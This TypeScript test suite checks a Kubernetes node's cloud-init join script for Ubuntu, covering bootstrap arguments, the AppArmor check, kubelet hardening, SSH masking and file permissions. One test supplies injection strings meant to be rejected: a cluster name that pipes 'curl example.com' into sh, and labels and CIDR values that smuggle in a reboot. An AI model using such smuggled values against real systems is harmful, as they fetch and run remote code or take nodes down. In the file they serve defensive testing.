import { spawnSync } from "node:child_process";
import { chmodSync, existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { dirname, join } from "node:path";

import { dnsAddress, type Join } from "../../stacks/user-data/join";
import { userData } from "../../stacks/user-data";
import { cloudConfig, fileOf, kubeletFile, TOLD } from "./join";
import { failures } from "./kube-bench";

const told = (more: Partial<Join> = {}) =>
  userData({ os: "ubuntu", cis: undefined }, { access: "none" }, { ...TOLD, ...more });

/** What the image has before: as much as the script touches. */
const IMAGE = { kind: "KubeletConfiguration", maxPods: 29, readOnlyPort: 10255, authentication: { anonymous: {} } };

/** Commands that only tell that they were called. */
const COMMANDS = ["systemctl", "sysctl", "snap", "chown", "bootstrap.sh"];

/** Stands in for jq where there is none: the one expression that the script asks of it. */
const JQ = `#!${process.execPath}
const merge = (a, b) => a && b && typeof a === "object" && typeof b === "object" && !Array.isArray(b)
  ? { ...a, ...Object.fromEntries(Object.entries(b).map(([key, to]) => [key, key in a ? merge(a[key], to) : to])) } : b;
const [under, over] = process.argv.slice(-2).map((path) => JSON.parse(require("fs").readFileSync(path, "utf8")));
console.log(JSON.stringify(merge(under, over)));
`;
const HAS_JQ = spawnSync("jq", ["--version"]).status === 0;

/** Runs a node's script in a folder that stands for its disk. */
function start(text: string, { appArmor = "Y", failing = "" } = {}) {
  const disk = mkdtempSync(join(tmpdir(), "bulwark-node-"));
  const put = (path: string, content: string, mode = 0o644) => {
    mkdirSync(dirname(join(disk, path)), { recursive: true });
    writeFileSync(join(disk, path), content);
    chmodSync(join(disk, path), mode);
  };
  const within = (line: string) => line.replace(/(^|[\s"=(])\/(etc|sys|var)\//g, `$1${disk}/$2/`);

  for (const { path, content } of cloudConfig(text).write_files) put(path, content);
  put("/sys/module/apparmor/parameters/enabled", `${appArmor}\n`);
  put("/etc/kubernetes/kubelet/kubelet-config.json", JSON.stringify(IMAGE));
  put("/var/lib/kubelet/kubeconfig", "{}");
  const calls = join(disk, "calls");
  for (const name of COMMANDS) {
    const path = name === "bootstrap.sh" ? "/etc/eks/bootstrap.sh" : `/bin/${name}`;
    put(
      path,
      `#!/bin/sh\nprintf '%s ' ${name} "$@" >> ${calls}\necho >> ${calls}\n[ ${name} != "${failing}" ]\n`,
      0o755,
    );
  }
  if (!HAS_JQ) put("/bin/jq", JQ, 0o755);
  const script = fileOf(text, "/join").content.split("\n").map(within).join("\n");
  const { status } = spawnSync("bash", ["-c", script], { env: { PATH: `${disk}/bin:${process.env["PATH"] ?? ""}` } });

  const kubelet = JSON.parse(readFileSync(join(disk, "/etc/kubernetes/kubelet/kubelet-config.json"), "utf8")) as object;
  const called = existsSync(calls) ? readFileSync(calls, "utf8").trim().split("\n") : [];
  rmSync(disk, { recursive: true });
  return { status, called: called.map((line) => line.trim()), kubelet };
}

const STOPPED = "snap stop --disable kubelet-eks";

describe("an Ubuntu node", () => {
  it("joins first, and leaves the kubelet as kube-bench wants it, with what the image knew besides", () => {
    const { status, called, kubelet } = start(told());

    expect(status).toBe(0);
    expect(called.find((line) => line.startsWith("bootstrap.sh"))).toBe(
      `bootstrap.sh production --apiserver-endpoint ${TOLD.endpoint} --b64-cluster-ca ${TOLD.certificateAuthority} ` +
        "--dns-cluster-ip 172.20.0.10 --kubelet-extra-args --node-labels=workload=batch,bulwark/pool=batch " +
        "--register-with-taints=dedicated=batch:NoSchedule",
    );
    expect(called.at(-1)).toBe("snap restart kubelet-eks");
    expect(called).not.toContain(STOPPED);
    expect(failures(kubelet)).toEqual([]);
    expect(kubelet).toMatchObject({ maxPods: 29, readOnlyPort: 0 });
  });

  it("does not join a cluster where its kernel runs without AppArmor", () => {
    const { status, called } = start(told(), { appArmor: "N" });

    expect(status).not.toBe(0);
    expect(called).toEqual([STOPPED]);
  });

  it.each(["sysctl", "bootstrap.sh", "chown"])("stops its kubelet for good when %s fails", (failing) => {
    const { status, called } = start(told(), { failing });

    expect(status).not.toBe(0);
    expect(called.at(-1)).toBe(STOPPED);
  });

  it("is told nobody's key and no user, and masks what listens for SSH", () => {
    expect(cloudConfig(told())).toMatchObject({ users: [], ssh_pwauth: false, disable_root: true });
    expect(told()).not.toMatch(/ssh_authorized_keys|ssh-(rsa|ed25519)/);
    expect(start(told()).called).toContain("systemctl mask ssh.service ssh.socket");
  });

  it("never restarts by itself under its pods", () => {
    expect(fileOf(told(), "/52bulwark").content).toBe('Unattended-Upgrade::Automatic-Reboot "false";\n');
  });

  it("writes settings that root alone may change, and a script that root alone may read", () => {
    const modes = cloudConfig(told()).write_files.map(({ path, permissions }) => [path.split("/").at(-1), permissions]);

    expect(modes).toEqual(
      expect.arrayContaining([
        ["join", "0700"],
        ["kubelet.json", "0644"],
        ["ca.crt", "0644"],
      ]),
    );
  });

  it("knows its callers by a certificate that it was given itself", () => {
    const { path, content, encoding } = fileOf(told(), "/ca.crt");

    expect(encoding).toBe("b64");
    expect(content).toBe(TOLD.certificateAuthority);
    expect(kubeletFile(told())).toMatchObject({ authentication: { x509: { clientCAFile: path } } });
  });

  it("finds names in clusters of either family", () => {
    expect(dnsAddress("10.100.0.0/16")).toBe("10.100.0.10");
    const script = fileOf(told({ serviceCidr: "fd00:1234:5678::/108" }), "/join").content;
    expect(script).toContain(" --ip-family 'ipv6' --service-ipv6-cidr 'fd00:1234:5678::/108' ");
    expect(script).not.toContain("--dns-cluster-ip");
  });

  it.each([
    ["a cluster", { name: "x'; curl example.com | sh; '" }],
    ["a label", { labels: { a: "b'$(reboot)" } }],
    ["a block", { serviceCidr: "fd00::/108\nreboot" }],
  ])("cannot be told a command by the name of %s", (_what, more) => {
    expect(() => told(more)).toThrow("holds a quote or a line's end");
  });

  it("is told a shell script that bash can read", () => {
    expect(spawnSync("bash", ["-n", "-c", fileOf(told(), "/join").content]).status).toBe(0);
  });
});
